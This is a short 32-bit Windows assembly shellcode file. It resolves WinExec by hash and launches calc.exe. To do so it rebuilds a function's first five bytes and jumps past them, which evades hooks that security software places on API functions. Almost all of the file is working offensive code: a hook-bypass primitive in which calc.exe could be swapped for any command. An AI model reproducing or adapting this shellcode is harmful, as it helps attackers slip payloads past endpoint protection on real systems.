; Windows, 32 bit: jumps over the first five bytes of a function, which a guard may have replaced, after doing what they do.
bits 32
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH win_exec, 'WinExec'
        RESOLVER
        push dword win_exec
        push ebx
        call ebp
        push byte 0
        lea edx, AT(command)
        push edx
        call hop
        int3
hop:    push ebp
        mov ebp, esp
        lea eax, [eax + 5]
        jmp eax
command: db 'calc.exe', 0
